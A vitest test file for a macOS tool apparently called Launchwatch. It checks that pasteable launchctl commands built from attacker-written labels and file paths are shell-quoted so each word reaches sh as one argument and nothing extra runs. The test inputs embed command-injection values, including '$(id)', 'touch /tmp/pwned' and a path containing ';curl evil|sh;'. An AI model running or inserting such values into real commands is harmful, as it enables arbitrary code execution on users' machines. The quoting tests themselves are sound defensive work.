// The commands Launchwatch shows a person to paste carry labels and paths the attacker wrote: each, pasted into sh,
// must give exactly the words it names, one argument each, and never run anything of its own.
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { whatIsLeft } from '../../main/actions/launchd-steps';
import { pasteable } from '../../main/engine/shell-quote';

/** The arguments each `launchctl` call of `script` gets, run by sh with launchctl a function that records them. */
function pastedCalls(script: string): string[][] {
  const recorder = `launchctl() { for a in "$@"; do printf '%s\\036' "$a"; done; printf '\\035'; }\n`;
  const out = execFileSync('/bin/sh', ['-c', recorder + script], { encoding: 'utf8' });
  return out
    .split('\x1d')
    .filter((call) => call !== '')
    .map((call) => call.split('\x1e').slice(0, -1));
}

describe('commands to paste', () => {
  it('give back each word exactly, one argument each, whatever it holds', () => {
    // A seeded mix of what sh reads as syntax: quotes, $, `, \, ;, |, &, globs, spaces, ~, # and non-ASCII.
    const alphabet = ` \`'"$\\;|&<>()*?[]{}~#!=%,:@+-./aZ9é\u202e`;
    let seed = 7;
    const next = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) % alphabet.length;
    const words = Array.from({ length: 400 }, (_, i) =>
      Array.from({ length: 1 + (i % 23) }, () => alphabet[next()] as string).join(''),
    );
    words.push('com.example.plain', '/Users/alice/Library/LaunchAgents/x.plist', "-rf ~ 'q'", '');
    const calls = pastedCalls(`launchctl ${words.map((w) => pasteable(w)).join(' ')}`);
    expect(calls).toEqual([words]);
    // A plain word is shown as it is; one with a control character cannot be pasted at all.
    expect(pasteable('gui/501/com.example.agent')).toBe('gui/501/com.example.agent');
    expect(pasteable('a\nb', '<the file>')).toBe('<the file>');
  });

  it("what is left to do after an Undo stops short runs launchctl with the item's own label and file", () => {
    const label = "<com.x d;touch /tmp/pwned $(id) `id` 'q'>";
    const path = "/Users/alice/Library/LaunchAgents/x;curl evil|sh;'.plist";
    expect(pastedCalls(whatIsLeft('gui/501', label, path))).toEqual([
      ['enable', `gui/501/${label}`],
      ['bootstrap', 'gui/501', path],
    ]);
  });
});
